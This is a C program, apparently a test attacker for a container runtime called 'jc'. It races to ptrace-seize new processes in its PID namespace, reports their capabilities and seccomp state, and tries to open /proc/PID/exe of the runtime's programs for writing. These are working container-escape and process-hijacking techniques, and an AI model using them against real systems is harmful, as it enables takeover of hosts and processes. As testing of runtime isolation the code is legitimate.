/* A hostile process: it opens and traces each process that appears in its PID namespace, as early as it
 * can, and prints a line for each new result, until a signal ends it.
 *
 *   opens NAME            /proc/PID/exe of a program of jc is opened for reading
 *   writes NAME           the same for writing
 *   seizes NAME CAPS NO_NEW_PRIVS SECCOMP ROOT
 *                         ptrace(2) stops a program of jc; its capabilities, whether it may gain
 *                         privileges, its seccomp mode, and "host" if argv[1] exists in its root
 *   traces a program      ptrace(2) stops another program: the attack works
 *
 * With "hold" as argv[2] the first program of jc that it stops stays so. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *canary;
static int holds;

static void say(const char *line)
{
	static char said[256][128];
	static int count;
	for (int i = 0; i < count; i++)
		if (!strcmp(said[i], line))
			return;
	if (count < 256)
		strncpy(said[count++], line, 127);
	puts(line);
	fflush(stdout);
}

/* The name of the program behind a link of procfs, or null. */
static const char *name_of(const char *link)
{
	static char path[4096];
	ssize_t length = readlink(link, path, sizeof path - 1);
	if (length <= 0)
		return 0;
	path[length] = 0;
	/* The root of a mount that is nowhere: only jc-rootfs executes such a file. */
	if (!strcmp(path, "/"))
		return "jc-rootfs";
	char *slash = strrchr(path, '/');
	return slash ? slash + 1 : path;
}

static int is_jc(const char *name)
{
	return name && !strncmp(name, "jc-", 3);
}

/* A field of /proc/PID/status. */
static void field(int pid, const char *key, char *value)
{
	char path[64], text[8192];
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	int fd = open(path, O_RDONLY);
	ssize_t length = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
	close(fd);
	text[length > 0 ? length : 0] = 0;
	char *at = strstr(text, key);
	strcpy(value, "?");
	if (at)
		sscanf(at + strlen(key), " %31s", value);
}

static void open_exe(int pid)
{
	char path[64], link[64], line[256];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	const char *name = name_of(link);
	if (is_jc(name)) {
		snprintf(line, sizeof line, "opens %s", name);
		say(line);
		snprintf(line, sizeof line, "writes %s", name);
		/* ETXTBSY for as long as the program runs. */
		for (int i = 0; i < 100000; i++) {
			int writer = open(link, O_WRONLY);
			if (writer >= 0) {
				say(line);
				close(writer);
				break;
			}
			if (errno != ETXTBSY)
				break;
		}
	}
	close(fd);
}

/* Whether a program other than jc's was stopped, of which nothing is to be learnt any more. */
static int seize(int pid)
{
	char path[64], line[256], caps[32], privileges[32], seccomp[32];
	int status;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return 0;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return 0;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	const char *name = name_of(path);
	int is_other = !is_jc(name);
	if (!is_other) {
		field(pid, "CapEff:", caps);
		field(pid, "NoNewPrivs:", privileges);
		field(pid, "Seccomp:", seccomp);
		snprintf(path, sizeof path, "/proc/%d/root%s", pid, canary);
		const char *root = access(path, F_OK) ? "container" : "host";
		snprintf(line, sizeof line, "seizes %s %s %s %s %s", name, caps, privileges, seccomp, root);
		say(line);
		for (;holds;)
			pause();
	} else {
		say("traces a program");
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return is_other;
}

int main(int argc, char **argv)
{
	canary = argc > 1 ? argv[1] : "/none";
	holds = argc > 2 && !strcmp(argv[2], "hold");
	puts("ready");
	fflush(stdout);
	int own = getpid(), last = 0, stopped = 0;
	for (;;) {
		char text[128];
		int fd = open("/proc/loadavg", O_RDONLY);
		ssize_t length = read(fd, text, sizeof text - 1);
		close(fd);
		text[length > 0 ? length : 0] = 0;
		char *space = strrchr(text, ' ');
		last = space ? atoi(space) : last;
		/* The newest processes, and the numbers of the next ones. */
		for (int pid = last + 2; pid > 1 && pid > last - 6; pid--) {
			if (pid == own || pid == stopped)
				continue;
			if (seize(pid))
				stopped = pid;
			else
				open_exe(pid);
		}
	}
}
